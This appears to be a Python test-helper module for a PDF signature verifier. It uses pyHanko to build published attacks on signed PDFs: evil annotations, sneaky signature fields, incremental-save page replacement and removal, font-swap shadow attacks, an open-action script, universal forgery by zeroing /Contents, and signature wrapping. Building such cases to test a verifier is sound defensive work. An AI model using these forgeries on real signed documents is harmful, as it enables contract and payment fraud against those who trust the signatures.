"""Published attacks on signed PDFs, built from their descriptions, and damage done to a file byte by byte.

Certification attacks: "Breaking the Specification: PDF Certification" (Rohlmann et al., IEEE S&P 2021): evil annotation
and sneaky signature. Incremental saving, wrapping and universal forgery: "1 Trillion Dollar Refund" (Mladenov et al.,
ACM CCS 2019). Shadow attacks: Mainka et al., NDSS 2021.
"""

from __future__ import annotations

import io
import random
import re
from collections.abc import Iterator

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields

from signing.verification.container import gaps

_BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)")


def one_byte_changed(pdf: bytes, positions: Iterator[int], seed: int) -> Iterator[tuple[int, bytes]]:
    """The file with one byte changed at each of `positions`."""
    chance = random.Random(seed)
    for position in positions:
        changed = (pdf[position] + chance.randrange(1, 256)) % 256
        yield position, pdf[:position] + bytes([changed]) + pdf[position + 1 :]


def evil_annotation(pdf: bytes) -> bytes:
    """A free-text annotation that covers what was certified, appended as an update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    look = generic.StreamObject(
        generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/XObject"),
                pdf_name("/Subtype"): pdf_name("/Form"),
                pdf_name("/BBox"): _rectangle(0, 0, 400, 100),
            }
        ),
        stream_data=b"1 g 0 0 400 100 re f",
    )
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _rectangle(60, 600, 460, 720),
            pdf_name("/Contents"): generic.pdf_string("Nine thousand"),
            pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): writer.add_object(look)}),
            pdf_name("/F"): generic.NumberObject(4),
        }
    )
    page["/Annots"].append(writer.add_object(annotation))
    writer.update_container(page["/Annots"])
    writer.mark_update(page.container_ref)
    return _written(writer)


def field_for_sneaky_signature(pdf: bytes) -> bytes:
    """A visible signature field over the text, made after certification, still to be signed."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    fields.append_signature_field(writer, fields.SigFieldSpec("sneaky", box=(60, 600, 460, 720), on_page=0))
    return _written(writer)


def page_replaced(pdf: bytes) -> bytes:
    """Other words on the page, appended as an update (incremental saving attack)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    content = generic.StreamObject(stream_data=b"BT /F1 40 Tf 72 700 Td (PAY TEN TIMES AS MUCH) Tj ET")
    page["/Contents"] = writer.add_object(content)
    writer.mark_update(page.container_ref)
    return _written(writer)


def page_removed(pdf: bytes) -> bytes:
    """The last page taken away by an update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    pages = writer.root["/Pages"]
    pages["/Kids"].pop()
    pages["/Count"] = generic.NumberObject(len(pages["/Kids"]))
    writer.mark_update(pages.container_ref)
    return _written(writer)


def fonts_swapped(pdf: bytes) -> bytes:
    """The same text drawn with another font: an update replaces the font object (shadow attack, replace)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    font = page["/Resources"]["/Font"]["/F1"]
    font["/BaseFont"] = pdf_name("/ZapfDingbats")
    writer.mark_update(font.container_ref)
    return _written(writer)


def script_added(pdf: bytes) -> bytes:
    """An action that runs when the file is opened, added by an update."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    action = generic.DictionaryObject(
        {pdf_name("/S"): pdf_name("/JavaScript"), pdf_name("/JS"): generic.pdf_string("app.alert('x')")}
    )
    writer.root["/OpenAction"] = writer.add_object(action)
    writer.update_root()
    return _written(writer)


def signature_field_forgotten(pdf: bytes) -> bytes:
    """The form removed by an update, so that no reader finds the signature (incremental saving attack G)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    del writer.root["/AcroForm"]
    writer.update_root()
    return _written(writer)


def contents_emptied(pdf: bytes) -> bytes:
    """/Contents turned to zeros (universal signature forgery)."""
    begin, end = gaps(pdf)[0]
    return pdf[: begin + 1] + b"0" * (end - begin - 2) + pdf[end - 1 :]


def gap_widened(pdf: bytes) -> bytes:
    """Room for unsigned objects made beside /Contents by moving the second range (signature wrapping)."""
    begin, end = gaps(pdf)[-1]
    old = _BYTE_RANGE.search(pdf, begin - 400)
    assert old is not None
    extra = b" /Extra (unsigned)"
    moved = pdf[:end] + extra + pdf[end:]
    text = pdf[old.start() : old.end()]
    new = b"/ByteRange [0 %d %d %d" % (begin, end + len(extra), int(old[4]))
    return moved.replace(text, new.ljust(len(text))[: len(text)], 1)


def bytes_appended(pdf: bytes, tail: bytes = b"\n% nobody signed this\n") -> bytes:
    return pdf + tail


def _rectangle(*numbers: int) -> generic.ArrayObject:
    return generic.ArrayObject(generic.NumberObject(number) for number in numbers)


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()
